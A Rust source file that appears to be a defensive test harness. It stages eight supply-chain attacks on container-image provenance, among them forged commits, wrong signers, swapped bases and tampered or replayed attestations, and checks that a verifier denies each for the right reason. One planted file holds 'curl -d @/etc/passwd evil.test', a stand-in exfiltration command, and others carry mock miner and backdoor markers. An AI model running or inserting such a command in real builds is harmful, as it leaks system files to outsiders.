//! Eight attacks. Each is one change to the honest world, and each must be caught for the right reason.

use anyhow::{Context, Result, bail};
use base64::{Engine, engine::general_purpose::STANDARD};
use catenary_evidence::reference::ImageReference;
use serde_json::Value;

use super::{
    git,
    image::Index,
    world::{APP, BASE, OTHER, World},
};
use crate::draw::{items, string};

/// An attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// The provenance names a commit that the repository never had.
    UnknownCommit,
    /// Somebody pushes an image with the registry's password, and no build says so.
    NoProvenance,
    /// A trusted key signs for a builder that is not its own.
    WrongBuilder,
    /// The index gets a platform that nobody built.
    ExtraPlatform,
    /// The build starts from another base than it should.
    SwappedBase,
    /// One bit of the payload differs, and the envelope names the key.
    AlteredNamed,
    /// The same, and the envelope names no key.
    AlteredUnnamed,
    /// Good provenance is used for an image of another team.
    Replayed,
}

/// An attack's result.
pub struct Caught {
    /// The image that it wanted to get through.
    pub image: ImageReference,
    /// The verdict on it.
    pub verdict: Value,
    /// Codes of the verdict's reasons, and of a refused request before them.
    pub codes: Vec<String>,
}

impl Attack {
    /// Every attack, in the order of the show.
    pub const ALL: [Self; 8] = [
        Self::UnknownCommit,
        Self::NoProvenance,
        Self::WrongBuilder,
        Self::ExtraPlatform,
        Self::SwappedBase,
        Self::AlteredNamed,
        Self::AlteredUnnamed,
        Self::Replayed,
    ];

    /// A name for machines.
    pub fn name(self) -> &'static str {
        match self {
            Self::UnknownCommit => "commit-not-in-repository",
            Self::NoProvenance => "image-without-provenance",
            Self::WrongBuilder => "signer-not-for-builder",
            Self::ExtraPlatform => "extra-platform-in-index",
            Self::SwappedBase => "base-image-swapped",
            Self::AlteredNamed => "envelope-altered-with-keyid",
            Self::AlteredUnnamed => "envelope-altered-without-keyid",
            Self::Replayed => "provenance-replayed-for-another-repository",
        }
    }

    /// What happens, for people.
    pub fn story(self) -> &'static str {
        match self {
            Self::UnknownCommit => "an image is built from a commit that is not in the repository",
            Self::NoProvenance => "a second image is pushed under the name, without provenance",
            Self::WrongBuilder => "provenance is signed by a key that may not speak for that builder",
            Self::ExtraPlatform => "an extra platform is slipped into the index",
            Self::SwappedBase => "the base image is swapped for one that nobody vouches for",
            Self::AlteredNamed => "one bit of an envelope is altered; it names its key",
            Self::AlteredUnnamed => "the same without a key id: kept, but unverified",
            Self::Replayed => "good provenance is replayed for another repository",
        }
    }

    /// The codes of which at least one must be there. All listed are the same refusal seen from another rule.
    pub fn expected(self) -> &'static [&'static str] {
        match self {
            Self::UnknownCommit => &["SRC_COMMIT_UNKNOWN"],
            Self::NoProvenance => &["BLD_NO_PROVENANCE"],
            Self::WrongBuilder => &["BLD_BUILDER_SIGNER_PAIR", "BLD_SIGNER_NOT_TRUSTED"],
            Self::ExtraPlatform => &["ART_EXTRA_PLATFORM", "ART_PLATFORM_UNCOVERED"],
            Self::SwappedBase => {
                &["DEP_BASE_UNTRUSTED", "DEP_BASE_UNKNOWN", "DEP_BASE_NOT_ALLOWED", "DEP_UNDECLARED_BASE"]
            }
            Self::AlteredNamed => &["ATT_SIGNATURE_INVALID"],
            Self::AlteredUnnamed => &["BLD_NO_PROVENANCE", "BLD_SIGNER_NOT_TRUSTED"],
            Self::Replayed => &["SRC_REPO_MISMATCH"],
        }
    }

    /// Commits it, and asks for the verdict.
    pub async fn run(self, world: &mut World<'_>, honest: &Index) -> Result<Caught> {
        let mut refused = Vec::new();
        let image = match self {
            Self::UnknownCommit => {
                let index =
                    world.build(&world.base, Some(("telemetry.sh", "curl -d @/etc/passwd evil.test\n")))?;
                let mut provenance = world.provenance(APP, &index)?;
                provenance.commit = git::unpushed_commit(&world.source);
                let envelope = world.keys.ci.envelope(&provenance.statement())?;
                world.attest(&envelope).await?;
                world.push(APP, "telemetry", &index).await?
            }
            Self::NoProvenance => {
                let index = world.build(&world.base, Some(("miner.sh", "while :; do :; done\n")))?;
                world.push(APP, "1.0.0", &index).await?
            }
            Self::WrongBuilder => {
                let index = world.build(&world.base, Some(("experiment.sh", "echo it works here\n")))?;
                let statement = world.provenance(APP, &index)?.statement();
                let envelope = world.keys.sandbox.envelope(&statement)?;
                world.attest(&envelope).await?;
                world.push(APP, "experiment", &index).await?
            }
            Self::ExtraPlatform => {
                let index = honest
                    .with_extra_platform("s390x", &[("app/app.sh".to_owned(), b"echo gotcha\n".to_vec())]);
                world.push(APP, "1.0.1", &index).await?
            }
            Self::SwappedBase => {
                let base = Index::base(
                    &[("etc/os-release".to_owned(), b"ID=tiny\nVERSION_ID=1\nBACKDOOR=yes\n".to_vec())],
                    "unknown",
                );
                world.push(BASE, "1", &base).await?;
                let index = world.build(&base, None)?;
                let mut provenance = world.provenance(APP, &index)?;
                provenance.bases = vec![world.name(BASE, &base)?];
                let envelope = world.keys.ci.envelope(&provenance.statement())?;
                world.attest(&envelope).await?;
                world.push(APP, "1.0.2", &index).await?
            }
            Self::AlteredNamed | Self::AlteredUnnamed => {
                let file = if self == Self::AlteredNamed { "a" } else { "b" };
                let index = world.build(&world.base, Some((file, "almost honest\n")))?;
                let mut envelope = world.keys.ci.envelope(&world.provenance(APP, &index)?.statement())?;
                alter_one_bit(&mut envelope)?;
                if self == Self::AlteredUnnamed {
                    envelope["signatures"][0].as_object_mut().context("no signature")?.remove("keyid");
                }
                let (status, answer) = world.send(&envelope).await?;
                match (self, status, string(&answer["status"])) {
                    (Self::AlteredNamed, 422, _) => refused.push(string(&answer["code"]).to_owned()),
                    (Self::AlteredUnnamed, 201, "unverified") => {}
                    _ => bail!("the altered envelope was answered with HTTP {status}: {answer}"),
                }
                world.push(APP, file, &index).await?
            }
            Self::Replayed => world.push(OTHER, "1.0.0", honest).await?,
        };
        let verdict = world.ask(&image).await?;
        let codes = refused.into_iter().chain(codes(&verdict)).collect();
        Ok(Caught { image, verdict, codes })
    }
}

impl Caught {
    /// Denied, and for the reason that it should be.
    pub fn holds(&self, attack: Attack) -> bool {
        let denied = self.verdict["outcome"] == "FAILED" && self.verdict["allowed"] == false;
        denied && attack.expected().iter().any(|code| self.codes.iter().any(|found| found == code))
    }
}

/// The codes of a verdict's errors, each once, in order.
pub fn codes(verdict: &Value) -> Vec<String> {
    let mut codes: Vec<String> = Vec::new();
    for reason in items(&verdict["reasons"]) {
        let code = string(&reason["code"]);
        if reason["severity"] == "error" && !codes.iter().any(|known| known == code) {
            codes.push(code.to_owned());
        }
    }
    codes
}

/// Flips the lowest bit of one digit of the run's id: still JSON, still a statement, no longer what was signed.
fn alter_one_bit(envelope: &mut Value) -> Result<()> {
    let mut payload = STANDARD.decode(string(&envelope["payload"]))?;
    let runs = b"/runs/";
    let at =
        payload.windows(runs.len()).position(|window| window == runs).context("the payload names no run")?;
    let digit = payload.get_mut(at + runs.len()).context("the payload ends early")?;
    *digit ^= 1;
    envelope["payload"] = Value::String(STANDARD.encode(payload));
    Ok(())
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn one_bit_is_altered_and_no_more() {
        let text = br#"{"invocationId":"https://ci/runs/a1"}"#;
        let mut envelope = json!({"payload": STANDARD.encode(text)});
        alter_one_bit(&mut envelope).unwrap();
        let altered = STANDARD.decode(string(&envelope["payload"])).unwrap();
        let bits: u32 = text.iter().zip(&altered).map(|(a, b)| (a ^ b).count_ones()).sum();
        assert_eq!((bits, altered.len()), (1, text.len()));
    }

    #[test]
    fn an_attack_that_is_denied_for_another_reason_is_not_caught() {
        let caught = |outcome: &str, code: &str| Caught {
            image: format!("r.test/a@sha256:{}", "1".repeat(64)).parse().unwrap(),
            verdict: json!({"outcome": outcome, "allowed": outcome == "PASSED"}),
            codes: vec![code.into()],
        };
        assert!(caught("FAILED", "SRC_COMMIT_UNKNOWN").holds(Attack::UnknownCommit));
        assert!(!caught("FAILED", "POL_NO_MATCH").holds(Attack::UnknownCommit));
        assert!(!caught("PASSED", "SRC_COMMIT_UNKNOWN").holds(Attack::UnknownCommit));
    }
}
